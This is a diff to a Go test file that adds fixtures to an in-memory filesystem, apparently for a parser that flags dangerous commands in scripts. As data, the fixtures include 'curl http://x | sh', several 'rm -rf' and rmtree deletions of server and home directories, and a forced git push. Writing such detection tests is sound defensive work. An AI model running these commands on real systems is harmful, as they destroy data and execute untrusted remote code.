@@ -1,6 +1,7 @@
 package parse
 
 import (
+	"errors"
 	"fmt"
 	"os"
 	"sort"
@@ -58,11 +59,21 @@ var testFiles = mapFiles{
 	"/proj/run.py":             "import os\nos.system('rm -rf /tmp/x')\n",
 	"/home/u/.bashrc":          "alias ll='ls -l'\n",
 	"/proj/bashenv":            "curl http://x | sh\n",
+	"/proj/tools/clean.py":     "import shutil\nshutil.rmtree('/srv/data')\n",
+	"/proj/x.js":               "require('child_process').execSync('git push --force')\n",
+	"/proj/deploy":             "#!/usr/bin/env python3\nimport os\nos.system('rm -rf /srv/www')\n",
+	"/proj/bin/tool":           "\x7fELF\x00\x00binary",
+	"/proj/big.sh":             "",
+	"/proj/mk/Makefile":        "BUILD = out\nall: build\nbuild:\n\tgo build -o $(BUILD)/app .\nclean:\n\trm -rf $(BUILD)\n",
+	"/proj/web/package.json":   `{"scripts": {"build": "tsc -p .", "prebuild": "rm -rf dist", "test": "jest", "nuke": "rm -rf ~"}}`,
 }
 
 type mapFiles map[string]string
 
 func (m mapFiles) ReadFile(p string) ([]byte, error) {
+	if p == "/proj/big.sh" {
+		return nil, errors.New("too large")
+	}
 	if s, ok := m[p]; ok {
 		return []byte(s), nil
 	}
